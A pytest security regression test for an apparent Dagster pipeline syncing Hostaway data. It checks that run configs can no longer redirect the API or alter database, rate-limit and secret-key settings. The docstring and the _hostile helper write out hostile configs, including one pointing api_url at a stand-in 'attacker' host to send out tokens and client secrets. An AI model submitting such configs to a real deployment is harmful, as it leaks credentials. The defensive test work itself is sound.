"""No run config can change where a token or secret is sent, or how hard Hostaway is hit.

The attack (issue 10): a run launched from the UI with
`resources: {hostaway: {config: {api_url: "http://attacker/v1"}}}` sent the stored token, then
the client secret, to the attacker. Resources now have an empty config schema: Dagster refuses
such a run at config validation, before any step runs.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import dagster as dg
import pytest
import sqlalchemy as sa

from hostaway_pipeline.accounts.tokens import SqlTokenStore
from hostaway_pipeline.client.config import api_host
from hostaway_pipeline.client.ports import StoredToken
from hostaway_pipeline.defs.accounts.jobs import SYNC_JOB_NAME
from hostaway_pipeline.defs.entities.config import sync_run_config
from hostaway_pipeline.defs.entities.partitions import ACCOUNTS_NAME
from hostaway_pipeline.settings import Settings
from hostaway_pipeline.warehouse import schema
from hostaway_pipeline_tests.support.http import CatchAll
from hostaway_pipeline_tests.support.wiring import Wired
from hostaway_sandbox import SandboxServer


@pytest.fixture
def catch_all() -> Iterator[CatchAll]:
    with CatchAll() as server:
        yield server


def _token_rows(engine: sa.Engine) -> list[tuple[object, ...]]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(sa.select(schema.access_tokens)).all()]


def _hostile(url: str) -> list[dict[str, object]]:
    """Run configs an attacker could submit: API URL, limits, database, home and key."""
    return [
        {"resources": {"hostaway": {"config": {"api_url": url}}}},
        {"resources": {"hostaway": {"config": {"rate_limit_per_ip": 10_000}}}},
        {"resources": {"hostaway": {"config": {"max_concurrency": 64}}}},
        {"resources": {"warehouse": {"config": {"database_url": "sqlite:////tmp/x.sqlite"}}}},
        {"resources": {"warehouse": {"config": {"home": "/tmp"}}}},
        {"resources": {"warehouse": {"config": {"secret_key": "x"}}}},
    ]


def test_a_run_config_pointing_the_api_elsewhere_is_refused_and_sends_nothing(
    defs: dg.Definitions,
    instance: dg.DagsterInstance,
    wired: Wired,
    sandbox: SandboxServer,
    settings: Settings,
    catch_all: CatchAll,
) -> None:
    account_id = sandbox.state.account_ids()[0]
    key = str(account_id)
    instance.add_dynamic_partitions(ACCOUNTS_NAME, [key])
    now = datetime.now(UTC)
    store = SqlTokenStore(wired.engine, wired.box)
    store.save_token(
        api_host(settings.api_url),
        account_id,
        StoredToken("real-token", now, now + timedelta(days=700)),
    )
    before = _token_rows(wired.engine)
    job = defs.resolve_job_def(SYNC_JOB_NAME)
    assets = [a for a in defs.assets or [] if isinstance(a, dg.AssetsDefinition)]
    resources = defs.resources or {}

    for hostile in _hostile(catch_all.url):
        run_config = {**sync_run_config("full"), **hostile}
        with pytest.raises(dg.DagsterInvalidConfigError, match="unexpected config entry"):
            dg.validate_run_config(job, run_config)
        with pytest.raises(dg.DagsterInvalidConfigError, match="unexpected config entry"):
            job.execute_in_process(run_config=run_config, instance=instance, partition_key=key)
        with pytest.raises(dg.DagsterInvalidConfigError, match="unexpected config entry"):
            dg.materialize(
                assets,
                resources=resources,
                run_config=run_config,
                instance=instance,
                partition_key=key,
                selection=[assets[0].key],
            )

    assert catch_all.requests == []
    assert _token_rows(wired.engine) == before
    assert store.load_token(api_host(settings.api_url), account_id) is not None
    assert sandbox.stats.by_status() == {}  # not even the real API was called
    assert instance.get_runs() == []  # refused before a run was created


def test_mode_and_lookback_are_all_the_launchpad_can_choose(defs: dg.Definitions) -> None:
    job = defs.resolve_job_def(SYNC_JOB_NAME)
    dg.validate_run_config(job, sync_run_config("incremental", lookback_minutes=5))
    dg.validate_run_config(job, {"resources": {"hostaway": {"config": {}}}})  # empty is fine
    schema_ = job.run_config_schema.config_type
    resources = schema_.fields["resources"].config_type  # type: ignore[attr-defined]
    for name in ("hostaway", "warehouse"):
        config = resources.fields[name].config_type.fields["config"].config_type
        assert config.fields == {}, f"{name} must expose no config"
